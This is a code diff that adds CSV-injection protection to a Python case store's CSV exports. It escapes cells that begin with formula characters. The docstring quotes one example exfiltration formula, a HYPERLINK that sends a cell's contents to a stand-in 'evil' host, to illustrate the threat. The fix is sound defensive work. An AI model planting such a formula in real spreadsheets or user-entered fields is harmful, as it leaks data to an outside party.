@@ -45,6 +45,7 @@ ITEM_STATES = ("pending", "analysed", "reviewed", "skipped")
 MAX_READINGS = 2  # double reading
 BUSY_TIMEOUT_MS = 30_000
 THUMBNAIL_MAX_SIDE = 256
+CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 # Columns returned by search()/exports (the blobs are left out).
 LIST_COLUMNS = [
@@ -447,6 +448,17 @@ class CaseStore:
                 f"select distinct {column} from cases where {column} is not null order by {column}")]
 
     # -- export and agreement
+    @staticmethod
+    def csv_safe(value: Any) -> Any:
+        """A text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is prefixed with '.
+
+        Reviewer notes, names and labels are typed by users; opened in Excel or LibreOffice, a note such as
+        ``=HYPERLINK("http://evil/?"&A1, "click")`` would otherwise run (OWASP "CSV injection").
+        """
+        if isinstance(value, str) and value[:1] in CSV_FORMULA_STARTS:
+            return "'" + value
+        return value
+
     def export_csv(self, path: str | Path, rows: list[dict] | None = None) -> Path:
         rows = self.search(limit=None) if rows is None else rows
         path = Path(path)
@@ -454,7 +466,7 @@ class CaseStore:
             w = csv.DictWriter(fh, fieldnames=LIST_COLUMNS, extrasaction="ignore")
             w.writeheader()
             for r in rows:
-                w.writerow({k: r.get(k) for k in LIST_COLUMNS})
+                w.writerow({k: self.csv_safe(r.get(k)) for k in LIST_COLUMNS})
         return path
 
     def export_json(self, path: str | Path, rows: list[dict] | None = None, with_history: bool = True) -> Path:
@@ -666,7 +678,7 @@ class CaseStore:
             with path.open("w", newline="", encoding="utf-8") as fh:
                 w = csv.DictWriter(fh, fieldnames=WORKLIST_EXPORT_COLUMNS, extrasaction="ignore")
                 w.writeheader()
-                w.writerows(rows)
+                w.writerows({k: self.csv_safe(v) for k, v in r.items()} for r in rows)
         else:
             raise StoreError("Export format must be csv or json.")
         return path
